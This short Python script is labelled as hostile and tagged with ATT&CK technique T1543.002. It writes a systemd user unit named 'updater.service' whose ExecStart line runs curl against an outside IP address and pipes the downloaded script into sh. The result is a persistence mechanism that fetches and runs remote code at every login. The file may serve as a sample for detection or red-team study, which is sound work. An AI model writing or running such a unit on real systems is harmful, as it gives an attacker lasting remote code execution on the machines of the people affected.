# hostile: a systemd user service for persistence (T1543.002)
from pathlib import Path

unit_dir = Path.home() / ".config/systemd/user"
unit_dir.mkdir(parents=True, exist_ok=True)
(unit_dir / "updater.service").write_text(
    "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/s | sh'\n[Install]\nWantedBy=default.target\n")
